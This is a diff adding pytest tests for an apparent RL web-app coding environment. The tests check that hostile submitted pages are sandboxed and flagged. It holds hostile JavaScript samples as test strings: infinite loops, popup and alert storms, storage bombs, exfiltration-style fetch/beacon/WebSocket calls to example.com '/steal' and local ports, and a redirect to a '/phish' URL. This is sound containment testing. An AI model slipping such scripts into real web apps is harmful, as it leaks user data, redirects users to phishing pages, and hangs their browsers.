@@ -1,0 +1,156 @@
+"""WebApp-v0 against hostile apps: each one is contained, flagged, and the next episode works."""
+
+from __future__ import annotations
+
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from codegym.envs.webapp import BrowserPool, WebAppEnv
+
+GOLD = """<!doctype html><html><body><button id="b">go</button><p id="out">idle</p>
+<script>document.getElementById("b").addEventListener("click", () => {
+  document.getElementById("out").textContent = "clicked"; });</script></body></html>"""
+TASK = {
+    "id": "click", "request": "A button #b that sets #out to 'clicked'.", "gold": GOLD,
+    "rubric": [{"id": "click", "text": "Clicking #b shows 'clicked' in #out.",
+                "flow": [{"click": "#b"}, {"expect": "text", "sel": "#out", "equals": "clicked"}]}],
+    "broken": [{"name": "inert", "breaks": ["click"], "code": GOLD.replace('"clicked"', '"idle"')}],
+}
+
+
+def working_app_plus(script: str) -> str:
+    """The gold app with a hostile script appended."""
+    return GOLD.replace("</body>", f"<script>{script}</script></body>")
+
+
+@pytest.fixture(scope="module")
+def env():
+    e = WebAppEnv(tasks=[TASK], load_timeout_s=3, item_timeout_s=4)
+    yield e
+    e.close()
+
+
+def grade(env, html):
+    env.reset(options={"task_id": "click"})
+    _, reward, _, _, info = env.step(f"```html\n{html}\n```")
+    return reward, info
+
+
+def gold_still_works(env):
+    env.reset(options={"task_id": "click"})
+    reward, info = grade(env, GOLD)
+    assert reward == 1.0, info["feedback"]
+
+
+@pytest.fixture(scope="module")
+def bystander():
+    """A server on another localhost port that counts the requests reaching it."""
+    hits = []
+
+    class H(BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *a):
+            pass
+
+    srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
+    t = threading.Thread(target=srv.serve_forever, daemon=True)
+    t.start()
+    yield srv.server_address[1], hits
+    srv.shutdown()
+    srv.server_close()
+
+
+def test_endless_loop_at_load_is_cut_off_and_flagged_then_next_episode_works(env):
+    reward, info = grade(env, "<html><body><p id=out>x</p><script>while (true) {}</script></body></html>")
+    assert "hung_page" in info["audit"]["flags"]
+    assert info["reward_components"]["runtime"] == 0.0 and info["reward_components"]["functional"] == 0.0
+    assert reward <= 0.2 and "infra_error" not in info
+    gold_still_works(env)
+
+
+def test_endless_loop_in_a_click_handler_fails_the_item_and_next_episode_works(env):
+    html = GOLD.replace('document.getElementById("out").textContent = "clicked";', "while (true) {}")
+    reward, info = grade(env, html)
+    item = info["verdict"]["items"][0]
+    assert not item["passed"] and "stopped responding" in item["reason"]
+    assert "hung_page" in info["audit"]["flags"] and "infra_error" not in info
+    gold_still_works(env)
+
+
+def test_alert_storm_is_dismissed_and_flagged(env):
+    reward, info = grade(env, working_app_plus("setInterval(() => alert('hi'), 5);"))
+    assert "dialog_storm" in info["audit"]["flags"]
+    assert info["reward_components"]["runtime"] == 0.0
+    gold_still_works(env)
+
+
+def test_window_open_loop_is_closed_and_flagged(env):
+    reward, info = grade(env, working_app_plus("setInterval(() => window.open('/'), 20);"))
+    assert "popup" in info["audit"]["flags"] and info["verdict"]["containment"]["popups"] > 0
+    assert info["audit"]["audit_reward"] == 0.0
+
+
+def test_fetch_to_outside_and_to_other_localhost_ports_is_blocked_and_flagged(env, bystander):
+    port, hits = bystander
+    script = (f"fetch('http://example.com/steal?x=1').catch(() => {{}});"
+              f"fetch('http://127.0.0.1:{port}/leak').catch(() => {{}});"
+              f"new Image().src = 'http://10.0.0.1/pixel.gif';"
+              f"navigator.sendBeacon('http://localhost:{port}/beacon', 'x');")
+    reward, info = grade(env, working_app_plus(script))
+    blocked = info["verdict"]["containment"]["blocked"]
+    assert "blocked_request" in info["audit"]["flags"] and info["audit"]["audit_reward"] == 0.0
+    assert any("example.com" in u for u in blocked) and any(f":{port}/leak" in u for u in blocked)
+    assert any("10.0.0.1" in u for u in blocked)
+    assert hits == []  # nothing reached the other local server
+
+
+def test_websocket_is_mocked_and_flagged(env, bystander):
+    port, hits = bystander
+    reward, info = grade(env, working_app_plus(f"try {{ new WebSocket('ws://127.0.0.1:{port}/ws'); }} catch (e) {{}}"))
+    assert "websocket" in info["audit"]["flags"] and hits == []
+
+
+def test_navigation_away_is_blocked_and_flagged(env):
+    html = GOLD.replace('document.getElementById("out").textContent = "clicked";',
+                        "location.href = 'http://example.com/phish';")
+    reward, info = grade(env, html)
+    assert "navigation_away" in info["audit"]["flags"] or "blocked_request" in info["audit"]["flags"]
+    assert any("example.com" in u for u in info["verdict"]["containment"]["blocked"])
+    assert not info["verdict"]["items"][0]["passed"]
+    gold_still_works(env)
+
+
+def test_huge_dom_is_flagged(env):
+    script = "const f = document.createDocumentFragment(); for (let i = 0; i < 60000; i++) f.appendChild(document.createElement('i')); document.body.appendChild(f);"
+    reward, info = grade(env, working_app_plus(script))
+    assert "huge_dom" in info["audit"]["flags"] and info["reward_components"]["runtime"] == 0.0
+    gold_still_works(env)
+
+
+def test_storage_bomb_is_flagged_and_wiped_before_the_next_item(env):
+    script = "try { for (let i = 0; i < 40; i++) localStorage.setItem('k' + i, 'x'.repeat(100000)); } catch (e) {}"
+    reward, info = grade(env, working_app_plus(script))
+    assert "storage_bomb" in info["audit"]["flags"] and info["reward_components"]["runtime"] == 0.0
+    gold_still_works(env)
+
+
+def test_pool_survives_a_crashed_browser():
+    pool = BrowserPool()
+    try:
+        e = WebAppEnv(tasks=[TASK], pool=pool)
+        reward, _ = grade(e, GOLD)
+        assert reward == 1.0 and pool.launches == 1
+        assert pool.browser_pids()
+        pool.kill_browser()
+        reward, info = grade(e, GOLD)
+        assert reward == 1.0, info
+        assert pool.launches == 2 and pool.restarts == 1
+    finally:
+        pool.close()
+    assert pool.browser_pids() == []  # closing leaves no Chromium behind
